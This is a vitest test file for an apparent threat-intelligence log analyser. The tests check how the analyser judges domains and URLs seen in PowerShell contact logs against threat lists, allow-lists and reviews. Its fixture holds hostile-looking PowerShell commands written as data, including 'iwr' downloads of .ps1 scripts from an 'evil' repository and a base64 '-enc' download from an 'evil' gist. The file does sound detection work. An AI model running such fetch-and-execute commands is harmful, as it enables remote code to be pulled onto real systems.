import { describe, expect, test } from 'vitest';
import type { Analysis } from '../../src/engine/analysis';
import { urlsOf } from '../../src/labels/url-arguments';
import { contactLog } from '../support/contact-log';
import { ingestText } from '../support/ingest';
import { now, studyOf } from '../support/study';
import { verdictsOf } from '../support/verdicts';

const base64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const log = contactLog(`
  time   host  process         arguments                                                       fqdn                       count
  09:00  pc1   powershell.exe  iwr https://RAW.githubusercontent.com/evil/repo/main/x.ps1      raw.githubusercontent.com  1
  09:01  pc1   powershell.exe  iwr https://raw.githubusercontent.com/good/repo/main/y.ps1      raw.githubusercontent.com  1
  09:02  pc1   powershell.exe  iwr https://github.com/good/repo                                github.com                 1
  09:03  pc1   powershell.exe  a                                                               evil.example.com           1
  09:04  pc1   powershell.exe  a                                                               www.evil.example.com       1
  09:05  pc1   powershell.exe  a                                                               evil.workers.dev           1
  09:06  pc1   powershell.exe  a                                                               good.workers.dev           1
  09:07  pc1   powershell.exe  -enc ${base64('iwr https://gist.githubusercontent.com/evil/z')}  gist.githubusercontent.com  1
`);

const urls = (...lines: readonly string[]) => ingestText(`${lines.join('\n')}\n`, 'urls.txt');
const judgementOf = (analysis: Analysis, baseDomain: string, fqdn: string) => analysis.domain('powershell', baseDomain)!.fqdns.find((row) => row.fqdn === fqdn)!.judgement;

describe('a URL', () => {
  test('judges the host it is on, and nothing below', async () => {
    const analysis = await studyOf(log, await urls('http://evil.example.com/x'));
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'malicious by intel', 'fqdn www.evil.example.com': 'unreviewed' });
    expect(judgementOf(analysis, 'example.com', 'evil.example.com').provenance).toMatchObject({ level: 'url', entry: 'evil.example.com/x', listName: 'urls.txt' });
  });

  test('on a name that a service gives to one tenant judges that tenant', async () => {
    expect(verdictsOf(await studyOf(log, await urls('http://evil.workers.dev/x')))).toMatchObject({ 'fqdn evil.workers.dev': 'malicious by intel', 'fqdn good.workers.dev': 'unreviewed' });
  });

  test('on shared hosting judges the arguments that hold it, and not the host', async () => {
    const verdicts = verdictsOf(await studyOf(log, await urls('https://raw.githubusercontent.com/evil/repo/main/x.ps1')));
    expect(verdicts).toMatchObject({
      'arguments raw.githubusercontent.com iwr https://RAW.githubusercontent.com/evil/repo/main/x.ps1': 'malicious by intel',
      'arguments raw.githubusercontent.com iwr https://raw.githubusercontent.com/good/repo/main/y.ps1': 'unreviewed',
      'fqdn raw.githubusercontent.com': 'mixed, malicious by intel',
      'base githubusercontent.com': 'mixed, malicious by intel',
    });
  });

  test('is found in what arguments hide', async () => {
    expect(verdictsOf(await studyOf(log, await urls('https://gist.githubusercontent.com/evil/z')))).toMatchObject({ 'fqdn gist.githubusercontent.com': 'malicious by intel' });
  });

  test('on shared hosting that no arguments hold puts the host to review', async () => {
    const analysis = await studyOf(log, await urls('https://github.com/evil/repo/releases/x.exe'));
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn github.com': 'unreviewed', 'base github.com': 'unreviewed' });
    for (const judgement of [judgementOf(analysis, 'github.com', 'github.com'), analysis.domain('powershell', 'github.com')!.row.judgement]) {
      expect(judgement).toMatchObject({ verdict: 'unreviewed', source: 'none', toReview: 'urls.txt names a URL on it, and anybody can put content there' });
    }
    expect(analysis.overview().lists).toMatchObject([{ matches: 0, toReview: 1, flaggedArguments: 0 }]);
  });

  test.each([
    ['an allow-list', 'allow.txt', 'github.com\n', 'benign by allow'],
    ['a review', 'review.csv', 'verdict,domain\nbenign,github.com\n', 'benign by review'],
  ])('on shared hosting says nothing against %s', async (_, name, text, verdict) => {
    const analysis = await studyOf(log, await urls('https://github.com/good/repo'), await ingestText(text, name));
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn github.com': verdict, 'arguments github.com iwr https://github.com/good/repo': verdict });
    expect(judgementOf(analysis, 'github.com', 'github.com').toReview).toBeUndefined();
  });
});

describe('a host of a URL list beside one that holds it by name', () => {
  test('is judged by the name', async () => {
    expect(verdictsOf(await studyOf(log, await ingestText('github.com\nbad.example.net\n', 'names.txt')))).toMatchObject({ 'fqdn github.com': 'malicious by intel' });
  });
});

test.each([
  ['iwr https://h.example/a/b.ps1', ['h.example/a/b.ps1', 'h.example/a', 'h.example/a/']],
  ['"https://H.example:8443/a";', ['h.example/a']],
  ['(https://h.example/a).', ['h.example/a']],
  ['https://h.example/?q=1&r=2', ['h.example/?q=1&r=2', 'h.example/?', 'h.example/?q=1', 'h.example/?q=1&']],
  ['https://h.example/ and h.example', []],
  ['https://nah.example/a https://h.example.org/a', []],
  ['h.example/a h.example/b', ['h.example/a', 'h.example/b']],
])('%s holds %j', (text, urlsIn) => expect([...urlsOf(text, 'h.example')]).toEqual(urlsIn));

test('finding URLs takes time in proportion to the text', () => {
  const start = performance.now();
  for (const piece of ['h.example/', 'h.example/a', 'h.example', '/?#&', 'h.example/?&'.repeat(20)]) for (const _ of urlsOf(piece.repeat(1_000_000 / piece.length), 'h.example'));
  expect(performance.now() - start).toBeLessThan(8000);
});

describe('what counts', () => {
  const dayMs = 86_400_000;
  const dated = (days: number): string => new Date(Date.now() - days * dayMs).toISOString().slice(0, 19).replace('T', ' ');
  const list = () => ingestText(`domain,last_seen\nevil.example.com,${dated(100)}\nevil.workers.dev,${dated(80)}\ngithub.com,\n`, 'dated.csv');

  test('is what was confirmed within 90 days, or as many as the user says, and what has no date', async () => {
    const analysis = await studyOf(log, await list());
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'unreviewed', 'fqdn evil.workers.dev': 'malicious by intel', 'fqdn github.com': 'malicious by intel' });
    expect(analysis.overview().lists).toMatchObject([{ entries: 3, unused: { 'too-old': 1 }, matches: 2 }]);
    const { settings } = analysis.overview();
    expect(analysis.setSettings({ ...settings, indicatorAgeDays: 30 }).lists).toMatchObject([{ unused: { 'too-old': 2 }, matches: 1 }]);
    expect(analysis.setSettings({ ...settings, indicatorAgeDays: null }).lists).toMatchObject([{ unused: {}, matches: 3 }]);
  });

  test('is what as many engines call malicious as the user says', async () => {
    const report = (id: string, malicious: number) => ({ id, type: 'domain', attributes: { last_analysis_stats: { malicious } } });
    const analysis = await studyOf(log, await ingestText(JSON.stringify({ data: [report('evil.example.com', 2), report('github.com', 5)] }), 'answers.json'));
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'unreviewed', 'fqdn github.com': 'malicious by intel' });
    expect(analysis.overview().lists).toMatchObject([{ unused: { 'too-few-engines': 1 } }]);
    analysis.setSettings({ ...analysis.overview().settings, engineThreshold: 2 });
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'malicious by intel' });
  });

  test('is no entry that was taken out, until it is put back', async () => {
    const analysis = await studyOf(log, await ingestText('example.com\ngithub.com\n', 'threats.txt'));
    const { id } = analysis.overview().lists[0]!;
    analysis.setListEntry(id, { level: 'domain', name: 'github.com' }, false);
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn github.com': 'unreviewed', 'fqdn evil.example.com': 'malicious by intel' });
    expect(analysis.listEntries({ list: id, search: 'git', offset: 0, limit: 10 })).toMatchObject({ total: 2, matching: 1, rows: [{ name: 'github.com', against: 'taken-out' }] });
    analysis.setListEntry(id, { level: 'domain', name: 'github.com' }, true);
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn github.com': 'malicious by intel' });
  });

  test('is nothing of a popularity list', async () => {
    const analysis = await studyOf(log, await ingestText('1,github.com\n2,example.com\n', 'top.csv'));
    expect(analysis.overview().lists).toMatchObject([{ kind: 'context', entries: 2, matches: 0 }]);
    expect(analysis.overview().receipts[1]).toMatchObject({ kind: 'context', format: 'list-tranco' });
    expect(new Set(Object.values(verdictsOf(analysis)))).toEqual(new Set(['unreviewed']));
  });
});

describe('allowed from a row', () => {
  test('a host is benign at once, with comment and time, and no more when it is taken out', async () => {
    const analysis = await studyOf(log, await ingestText('example.com\n', 'threats.txt'));
    const before = verdictsOf(analysis);
    analysis.allow({ name: 'evil.example.com', level: 'fqdn', comment: 'our own' }, now);
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'benign by allow', 'fqdn www.evil.example.com': 'malicious by intel', 'base example.com': 'mixed, malicious by intel' });
    expect(judgementOf(analysis, 'example.com', 'evil.example.com').provenance).toMatchObject({ level: 'fqdn', note: 'our own', entryDate: now, listName: 'Allowed here' });
    analysis.setListEntry('allowed-here', { level: 'fqdn', name: 'evil.example.com' }, false);
    expect(verdictsOf(analysis)).toEqual(before);
    analysis.allow({ name: 'evil.example.com', level: 'fqdn', comment: '' }, now);
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn evil.example.com': 'benign by allow' });
  });

  test('a domain is benign with all below', async () => {
    const analysis = await studyOf(log);
    analysis.allow({ name: 'example.com', level: 'domain', comment: '' }, now);
    expect(verdictsOf(analysis)).toMatchObject({ 'base example.com': 'benign by allow', 'fqdn www.evil.example.com': 'benign by allow' });
  });

  test('survives being kept and opened', async () => {
    const analysis = await studyOf(log, await ingestText('evil.example.com\n', 'threats.txt'));
    analysis.allow({ name: 'github.com', level: 'domain', comment: 'ours' }, now);
    analysis.setListEntry(analysis.overview().lists[0]!.id, { level: 'domain', name: 'evil.example.com' }, false);
    const again = await studyOf();
    await again.open(analysis.keep());
    expect(verdictsOf(again)).toEqual(verdictsOf(analysis));
    expect(again.overview().lists).toEqual(analysis.overview().lists);
  });
});

describe('an allow-list', () => {
  test('takes the domain of a wildcard too', async () => {
    expect(verdictsOf(await studyOf(log, await ingestText('*.github.com\n*.example.com\n', 'allow.txt')))).toMatchObject({ 'fqdn github.com': 'benign by allow', 'fqdn evil.example.com': 'benign by allow' });
  });

  test('tells what it hides', async () => {
    const analysis = await studyOf(log, await ingestText('evil.example.com\n', 'threats.txt'), await ingestText('example.com\n', 'allow.txt'));
    const { id } = analysis.overview().lists[1]!;
    expect(analysis.listDetail(id)).toMatchObject({ labelledCount: 2, hidesCount: 2, labelled: [{ entry: 'example.com', hides: 'threats.txt: evil.example.com' }, { hides: 'threats.txt: evil.example.com' }] });
  });

  test('comes with the page, off to start with', async () => {
    const analysis = await studyOf(contactLog(`
      time   process         fqdn
      09:00  powershell.exe  fe2.update.microsoft.com
      09:00  powershell.exe  www.python.org
      09:00  powershell.exe  evil.www.python.org
    `));
    expect(new Set(Object.values(verdictsOf(analysis)))).toEqual(new Set(['unreviewed']));
    const { lists } = analysis.setSettings({ ...analysis.overview().settings, startAllowList: true });
    expect(lists).toMatchObject([{ origin: 'built-in', kind: 'allow', matches: 2 }]);
    expect(verdictsOf(analysis)).toMatchObject({ 'fqdn fe2.update.microsoft.com': 'benign by allow', 'fqdn www.python.org': 'benign by allow', 'fqdn evil.www.python.org': 'unreviewed' });
  });
});

describe('conflicts', () => {
  test('of a list are entries that are popular, warned of, shared hosting or resolvers', async () => {
    const analysis = await studyOf(
      log,
      await ingestText('example.com\ngithub.com\nmicrosoft.com\n8.8.8.8\nevil.example.net\n', 'threats.txt'),
      await ingestText('1,example.org\n2,example.com\n', 'top.csv'),
    );
    const [list] = analysis.overview().lists;
    expect(list!.conflicts).toBe(4);
    expect(analysis.listDetail(list!.id)!.conflicts.rows.map(({ entry, why }) => `${entry}: ${why}`)).toEqual([
      'github.com: anybody can put content there (code hosting)', 'microsoft.com: in everyday use everywhere', '8.8.8.8: a public DNS resolver', 'example.com: number 2 in top.csv',
    ]);
  });
});
